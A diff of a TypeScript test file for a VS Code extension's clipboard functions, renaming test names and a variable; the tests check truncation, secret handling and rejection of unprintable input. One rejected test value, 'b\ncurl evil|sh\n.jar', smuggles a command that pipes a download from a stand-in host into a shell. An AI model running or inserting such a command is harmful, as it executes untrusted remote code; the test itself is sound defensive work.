@@ -3,27 +3,27 @@ import { copyLines, copySecret, copyText } from '../../../../src/common/vscode/c
 import { failure } from '../../support/coded';
 import { fakeWindow } from '../../support/fakeWindow';
 
-describe('The clipboard', () => {
+describe('Copying to the clipboard', () => {
   beforeEach(() => fakeWindow.reset());
 
-  it('gets a text, and the status bar says so', async () => {
+  it('copies a text and shows it in the status bar', async () => {
     await copyText('release-pkg/1/空 格 👩\u200d💻.jar');
     assert.equal(fakeWindow.clipboard, 'release-pkg/1/空 格 👩\u200d💻.jar');
     assert.deepEqual(fakeWindow.statusTexts, ['Copied: release-pkg/1/空 格 👩\u200d💻.jar']);
   });
 
-  it('gets several texts, one a line', async () => {
+  it('copies several texts, one per line', async () => {
     await copyLines(['a', 'b']);
     assert.equal(fakeWindow.clipboard, 'a\nb');
     assert.deepEqual(fakeWindow.statusTexts, ['Copied 2 lines']);
   });
 
-  it('shows a long text cut between characters', async () => {
+  it('truncates a long text in the status bar without splitting a character', async () => {
     await copyText(`${'x'.repeat(99)}😀${'y'.repeat(50)}`);
     assert.deepEqual(fakeWindow.statusTexts, [`Copied: ${'x'.repeat(99)}😀…`]);
   });
 
-  for (const bad of [
+  for (const unprintable of [
     'b\ncurl evil|sh\n.jar',
     'a\rb',
     'a\u0000b',
@@ -33,16 +33,16 @@ describe('The clipboard', () => {
     'a\u2066b',
     'half\udc80',
   ]) {
-    it(`never gets ${JSON.stringify(bad)}, alone or among others`, async () => {
-      const error = await failure(() => copyText(bad), 'copy.unprintable');
+    it(`rejects ${JSON.stringify(unprintable)}, alone or among other lines`, async () => {
+      const error = await failure(() => copyText(unprintable), 'copy.unprintable');
       assert.doesNotMatch(error.facts.subject ?? '', /[\p{Cc}\p{Zl}\p{Cs}\u202e\u2066]/u);
-      await failure(() => copyLines(['fine', bad]), 'copy.unprintable');
+      await failure(() => copyLines(['fine', unprintable]), 'copy.unprintable');
       assert.equal(fakeWindow.clipboard, '');
       assert.deepEqual(fakeWindow.statusTexts, []);
     });
   }
 
-  it('shows nothing of a secret', async () => {
+  it('does not show a copied secret in the status bar', async () => {
     await copySecret('the secret');
     assert.equal(fakeWindow.clipboard, 'the secret');
     assert.deepEqual(fakeWindow.statusTexts, []);
